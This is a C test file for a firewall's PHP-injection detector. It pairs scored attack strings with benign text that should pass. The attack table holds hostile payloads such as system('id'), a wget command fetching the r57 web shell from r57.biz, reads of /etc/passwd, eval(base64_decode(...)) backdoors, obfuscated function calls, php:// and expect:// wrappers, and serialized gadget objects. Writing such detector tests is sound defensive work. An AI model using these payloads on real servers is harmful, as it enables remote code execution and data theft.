/*
 * PHP injection detector: open tags with code, calls of PHP functions
 * (also through strings, groups and variables), wrappers, serialized
 * objects, php.ini directives; prose about the same words passes.
 */
#include "test.h"

#include "waf/php.c"

#define DETECT rp__waf_php
#define PREFIX "php"
#include "waf/detector_test.h"

static const tcase_t attacks[] = {
    /* open tags */
    { "<?php system('id'); ?>", 90, NULL },
    { "<?php echo \"test\"", 85, "open tag" },
    { "<?PHP echo 1;", 85, NULL },
    { "<? echo 'hello'; ?>", 85, NULL },
    { "<? php echo \"test\"", 85, NULL },
    { "<?\tphp echo 1", 85, NULL },
    { "<?= \"test\"", 85, NULL },
    { "<?=1?>", 85, NULL },
    { "<?=$_GET['data']?>", 85, NULL },
    { "<? exec('wget http://r57.biz/r57.txt -O", 85, NULL },
    { "<?xml :echo 1;", 70, "xml" },
    { "<?xml   \t\t ();echo 1;", 70, NULL },
    { "test<?", 50, NULL },
    { "[php]echo 'test';[/php]", 85, "[php]" },
    { "{php}echo 1{/php}", 60, NULL },
    { "somePhpWouldGoHere[\\php]", 55, NULL },
    /* calls */
    { "system('id')", 90, "system" },
    { "system(whoami)", 90, NULL },
    { "@exec('test')", 90, NULL },
    { "exec  (blah)", 80, NULL },
    { "exec\t(blah)", 80, NULL },
    { "exec\n('bar')", 80, NULL },
    { "exec/*comment*/()", 90, NULL },
    { "exec //comment\r\n (blah)", 90, NULL },
    { "exec #comment\r\n (blah)", 90, NULL },
    { "I don't like gzuncompress/*comment*/()", 90, NULL },
    { "eVAl(\"echo 10000000000-245205634;\");", 90, NULL },
    { "eval(gzinflate(str_rot13(base64_decode(\"abc\"))))", 90, NULL },
    { "base64_decode(", 70, NULL },
    { "base64_decode()", 90, NULL },
    { "FOOcall_user_func()", 60, NULL },
    { "pfsockopen('foo', 25)", 90, NULL },
    { "file_get_contents('/etc/passwd')", 90, NULL },
    { "phpinfo()", 90, NULL },
    { "unserialize(foo)", 90, NULL },
    { "chr(123)", 70, NULL },
    { "printf(foo)", 70, NULL },
    { "/get/substr()", 70, NULL },
    { "FILE\r\n()", 60, NULL },
    { "file_ExistS (\n\n)", 60, NULL },
    { "preg_replace('/test/e', $_GET['c'], 'test')", 95, NULL },
    { "array_map(\"system\", array(\"whoami\"))", 90, "callback" },
    { "include($_GET['file'])", 90, NULL },
    { "\\system('id')", 90, NULL },
    { "x=1;system('id');", 90, NULL },
    { "touch/*a\r\nb*/()", 60, NULL },
    { "ldap_get_entries()", 50, "extension" },
    { "tidy_parse_string()", 50, NULL },
    { "odbc_connection_string_should_quote(", 50, NULL },
    { "gethostbynamE(", 50, NULL },
    /* callees that are not names */
    { "\"system\"(ls);", 90, NULL },
    { "return\"system\"(xyz).s", 90, NULL },
    { "(system)('uname') ;", 90, "through a string" },
    { "(sy.(st).em)('uname');", 90, NULL },
    { "(string)\"system\"('uname');", 90, NULL },
    { "( string ) \"sys\".\"t\".\"em\" ('uname');", 90, NULL },
    { "(string) {[system][0]} ('uname');", 90, NULL },
    { "[system][0](ls);", 90, NULL },
    { "(['system'])[0]('uname');", 90, NULL },
    { "(  [  system  ][  0  ])  {/* comment */0}  (  ls  );", 90, NULL },
    { "(\"system  \")(\"whoami\")", 90, NULL },
    { "define('x', 'sys' . 'tem');(x)/* comment */('uname');", 85, NULL },
    { "$y = 'sys'.'tem';($y)('uname');", 90, NULL },
    { "'sys'.'tem'", 60, "concatenated" },
    { "\"\\x73\\x79\\x73\\x74\\x65\\x6d\"('id')", 90, NULL },
    { "\"\\163ystem\"('id')", 90, NULL },
    /* breaking out of the application's string */
    { "'.system('id').'", 90, NULL },
    { "\";system('id');//", 90, NULL },
    { "abc ' . system('id') . '", 90, NULL },
    { "${system('id')}", 90, NULL },
    { "$f = 'sys'.'tem'; $f('id');", 90, NULL },
    { "@eval(base64_decode($_POST['z0']));", 90, NULL },
    /* variable functions */
    { "$a(1)", 80, "variable function" },
    { "$$b(2)", 80, NULL },
    { "@$__[o](4)", 80, NULL },
    { "$__['o'](5)", 80, NULL },
    { "${'a'}(11)", 80, NULL },
    { "$GLOBALS['cf908275'](14)", 95, NULL },
    { "$_GET['a']($_GET['b'])", 95, NULL },
    { "$OOO000000{0}(15)", 80, NULL },
    { "$OOO0000O0 (16)", 65, NULL },
    { "$_aB_4c #foo\r\n\t[5]//bar\r\n\t['d'] /*foo*/ (17)", 80, NULL },
    { "$foo->$funcname()", 80, NULL },
    { "Foo::$variable()", 80, NULL },
    { "${$foo->bar}(200)", 80, NULL },
    { "$a //x\n()", 80, NULL },
    /* variables */
    { "$_SERVER['test'];", 80, "superglobal" },
    { "$_COOKIE", 60, NULL },
    { "${'ff'}", 75, "variable variable" },
    { "$ {'_VAR'.'IABLE_NAME'}", 70, NULL },
    { "$     {   CONSTANT   }", 70, NULL },
    /* wrappers */
    { "php://stdout", 85, "wrapper" },
    { "php://filter/convert.base64-encode/resource=index.php", 85, NULL },
    { "phar://phpinfo.zip/phpinfo.txt", 85, NULL },
    { "compress.zlib://http://www.example.com/some_file.gz", 80, NULL },
    { "zip://archive.zip", 70, NULL },
    { "expect://id", 90, NULL },
    { "ssh2.exec://user:pw@example.com:22/usr/bin/id", 90, NULL },
    /* serialized objects */
    { "O:8:\"stdClass\":0:{}", 90, "serialized" },
    { "O:8:\"stdClass\":1:{s:1:\"a\";i:2;}", 90, NULL },
    { "a:1:{i:0;O:9:\"SimplePie\":5:{s:8:\"sanitize\";}}", 90, NULL },
    { "_|O:32:\"Monolog\\Handler\\SyslogUdpHandler\":1:{S:6:\"socket\";}", 90, NULL },
    { "C:11:\"ArrayObject\":21:{x:i:0;a:0:{};m:a:0:{}}", 90, NULL },
    /* php.ini */
    { "allow_url_include=1", 85, "php.ini" },
    { "auto_prepend_file = /tmp/x.php", 85, NULL },
    { "opcache.jit_max_polymorphic_calls=50", 75, NULL },
    { "memory_limit = 512M", 70, NULL },
    { "engine=true", 55, NULL },
    { "a=1\nallow_url_fopen=On", 85, NULL },
};

static const char *const benign[] = {
    "the system is down()",
    "the system (as designed) works",
    "exec (",
    "executor()",
    "cheval($foo)",
    "audiofile($foo)",
    "ecosystem()",
    "systems()",
    "system something()",
    "preview",
    "exploration",
    "RootAndLeafOpenCamera.jpg",
    "autodescription-site-settings[title_strip_tags]",
    "SprintForTheCause",
    "A loaded ghost gun (unserialized) was recovered in the car.",
    "Moreover, phpinfo can potentially leak sensitive configuration details.",
    "PaintValdosta",
    "the files (yep)",
    "Set the drop-down to 'All' and sort by date (newest first).",
    "Please upload the file (PDF only) before Friday",
    "Our system(s) are down, check the file(s)",
    "eval",
    "We should never call eval or exec on user input; the system must validate it.",
    "sqrt(16) = 4; log(1000) = 3",
    "f(x) = 3x^2 + 2x - 1",
    "(a + b)(a - b) = a^2 - b^2",
    "(foo)bar or foo(bar) or [foo]bar or foo[bar]",
    "[ACME]: this is, (another) test (foo)bar or foo(bar).",
    "(foo)/(bar)",
    "(/foo)/(/bar)",
    "this is a \"dog\" (not a cat)",
    "$a#foo()",
    "$a//foo()",
    "$a[]()",
    "${}()",
    "$a{}()",
    "${}",
    "$ { }",
    "$_SE RVER['test'];",
    "Total ${price} for ${qty} items",
    "${HOME}/bin",
    "const res = await api.get(`/orders?page=${page}`);",
    "query GetUser($id: ID!) { user(id: $id) { name } }",
    "mutation AddToCart($sku: String!, $qty: Int = 1) { addToCart(sku: $sku, quantity: $qty) { id } }",
    "It costs $5 (plus tax)",
    "const total = items.reduce((sum, i) => sum + i.price, 0);",
    "str.substr(0, 3)",
    "$db->exec($sql)",
    "$pdo->query('SELECT 1')",
    "function system($x) { }",
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?><order><id>1</id></order>",
    "<?xml\tversion=\"1.0\"?>",
    "<?xml-stylesheet type=\"text/xsl\" href=\"style.xsl\"?>",
    "<?xpacket begin=\"?\" id=\"W5M0MpCehiHzreSzNTczkc9d\"?>",
    "<? should not trigger",
    "<?php",
    "Is this a test? What do you think?",
    "result = (x < 5) ? yes : no",
    "var x = (a < b) ? c : d; // <?test comment",
    "richard.php@my-email.com",
    "http://example.com/index.php?id=123",
    "https://example.com/page?x=1#section",
    "lz77://some_file.lz",
    "See the zip file at https://example.com/a.zip",
    "Order #123 shipped (2 boxes)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
    "The smtp server and the engine are fine; precision is 2",
    "we set memory_limit to 512M in php.ini",
    "key=value&engine=google",
    "a:2:{i:0;s:1:\"a\";i:1;s:1:\"b\";}",
    "Object: O: 8 items",
    "print(f\"total={total:.2f}\")",
    "Call me (555) 0100",
    "I don't know, it's fine",
    "range(1, 10) in Python",
    "crypt(abc)",
    "date('Y-m-d')",
    "Use array_map(fn($x) => $x * 2, $items) to double values",
    "In PHP, $_GET holds the query parameters",
    "Call exec() only on trusted input",
    "The eval() function evaluates JavaScript code",
    "The assert() macro aborts",
    "printf(\"%d\", x) prints an int",
    "substr(str, 0, 3) returns the start",
    "mail (paper) is slow",
    "Python: eval(input()) is bad",
    "Ruby: system(\"ls\") runs a command",
    "require('./module')",
    "this.$emit('change')",
    "$USD (approx)",
    "=> ${user.name} placeholder",
    "Hey <?= what",
    "ZIP://  is a scheme?",
    "engine = V8 in Chrome",
    "precision = 0.95",
    "Wiki: use [php]code[/php] to highlight",
    "$(this).hide(); $('#id').show(); $.ajax({url: '/x'})",
    "Vue: this.$refs.input.focus()",
    "The file (attached) has the details",
    "Please include (if possible) a photo",
    "We require (at minimum) two references",
    "File(1).pdf",
    "sodium_add_to_recipe(foo)",
    "array_diff",
    "mb_stristr",
    "ceiling height(9ft)",
    "openlogfile(foo)",
    "Call array_diff() to compare them",
    "Error in file_get_contents(): failed to open stream",
    "Warning: include(config.php): failed to open stream",
    "git commit -m \"fix: use escapeshellarg()\"",
    "Report: the exec() call failed with code 2",
    "system('id') is a classic payload",
};

TEST(attacks)
{
    run_attacks(attacks, RP_ARRAY_SIZE(attacks));
}

TEST(benign)
{
    run_benign(benign, RP_ARRAY_SIZE(benign), RP_WAF_SRC_QUERY);
    run_benign(benign, RP_ARRAY_SIZE(benign), RP_WAF_SRC_BODY);
}

TEST(tables_sorted)
{
    for (size_t i = 1; i < RP_ARRAY_SIZE(fns); i++)
        CHECK(strcmp(fns[i - 1].name, fns[i].name) < 0);
    for (size_t i = 1; i < RP_ARRAY_SIZE(dirs); i++)
        CHECK(strcmp(dirs[i - 1].name, dirs[i].name) < 0);
    for (size_t i = 0; i < RP_ARRAY_SIZE(fns); i++) {
        const unsigned char *p = (const unsigned char *)fns[i].name;
        CHECK(fn_find(p, strlen(fns[i].name)) == (int)i);
    }
    CHECK(fn_find((const unsigned char *)"SyStEm", 6) >= 0);
    CHECK(fn_find((const unsigned char *)"systems", 7) < 0);
}

TEST(markdown_fence)
{
    /* a PHP snippet in a code review: suspicious at most */
    const char *md = "Looks good\n\n```php\n$out = shell_exec($_GET['c']);\nsystem('id');\n```\n\nThanks";
    int sc = score_src(md, RP_WAF_SRC_BODY);
    CHECK(sc > 0 && sc <= FENCE_MAX);
    rp__waf_match_t m;
    det(md, strlen(md), RP_WAF_SRC_BODY, 0, &m);
    CHECK(strstr(m.evidence, "Markdown") != NULL);
    /* code outside the fence still counts */
    CHECK(score_src("system('id')\n```\nx\n```\n", RP_WAF_SRC_BODY) >= 90);
    /* an unclosed fence is not a block */
    CHECK(score_src("```\nsystem('id');", RP_WAF_SRC_BODY) >= 90);
    CHECK(score_src("```php\n$total = array_sum(array_column($items, 'price'));\n```", RP_WAF_SRC_BODY) < BLOCK);
}

TEST(span_and_flags)
{
    rp__waf_match_t m;
    const char *s = "x = system('id')";
    CHECK(det(s, strlen(s), RP_WAF_SRC_QUERY, 0, &m) >= 90);
    CHECK(m.off == 4 && m.len == 12);
    CHECK(strstr(m.evidence, "(system)") != NULL);
    CHECK(det(s, strlen(s), RP_WAF_SRC_BODY, RP_WAF_PT_NUMBER, &m) == 0);
    CHECK(det(s, strlen(s), RP_WAF_SRC_BODY, RP_WAF_PT_KEY, &m) >= 90);
    CHECK(det(NULL, 0, RP_WAF_SRC_BODY, 0, &m) == 0);
    CHECK(score("<?php") < BLOCK);
}

static int fname(const char *s)
{
    rp__waf_match_t m;
    int sc = rp__php_filename(s, strlen(s), &m);
    CHECK(sc == m.score && (sc == 0) == (m.evidence[0] == '\0'));
    CHECK(m.off <= strlen(s) && m.len <= strlen(s) - m.off);
    return sc;
}

TEST(file_names)
{
    static const char *const bad[] = {
        "a.php", "a.php..", "a.phtml", "fda.phtml......", "fda.php5", "fda.php7...",
        "fthisfewfda.php.", "fthi/sfewfda.php907.............", "dangerous.phar", "dangerous.phps",
        "dangerous.pht", "dangerous.phpt", "photo. php", "photo.php ", "dangerous. phtml",
        "something/dangerous.php", "sess_d8ew88tqmabdcokhumchy8htqm", "/tmp/sess_abc123def456ghi789jkl",
        "C:\\temp\\sess_malicious12345678901", "sess_abc-123-def-456-ghij", "SESS_abc123def456ghi789jkl",
        "sess_abc123,def456,ghi789jkl",
    };
    for (size_t i = 0; i < RP_ARRAY_SIZE(bad); i++) {
        int sc = fname(bad[i]);
        CHECK(sc >= 80);
        if (sc < 80)
            fprintf(stderr, "    file name %s: %d\n", bad[i], sc);
    }
    static const char *const ok[] = {
        "safe.txt", "safe.phpinfo", "fthi/sfewfda.phtml987...", "document.pdf", "my_sess_data.txt",
        "session_report.txt", "sess_short", "mydata.sess", "photo.jpg", "php", "a.ph",
    };
    for (size_t i = 0; i < RP_ARRAY_SIZE(ok); i++) {
        int sc = fname(ok[i]);
        CHECK(sc < BLOCK);
        if (sc >= BLOCK)
            fprintf(stderr, "    file name %s: %d\n", ok[i], sc);
    }
    /* a double extension: suspicious (CRS PL3) */
    CHECK(fname("test.php.jpg") == 45);
    CHECK(fname("test.phar .png") == 45);
}

TEST(pathological)
{
    run_pathological("system(");
    run_pathological("((((");
    run_pathological("))))");
    run_pathological("'\"`");
    run_pathological("$a[");
    run_pathological("/*");
    run_pathological("#");
    run_pathological("<?php ");
    run_pathological("'sys'.");
    run_pathological("```\n");
    run_pathological("O:8:\"");
    run_pathological("$$$$");
    run_pathological("${");
    run_pathological("a://");
    run_pathological("abcdefghijk(");
    run_pathological("x\n```\n");
}

int main(void)
{
    RUN(attacks);
    RUN(benign);
    RUN(tables_sorted);
    RUN(markdown_fence);
    RUN(span_and_flags);
    RUN(file_names);
    RUN(pathological);
    TEST_MAIN_END();
}
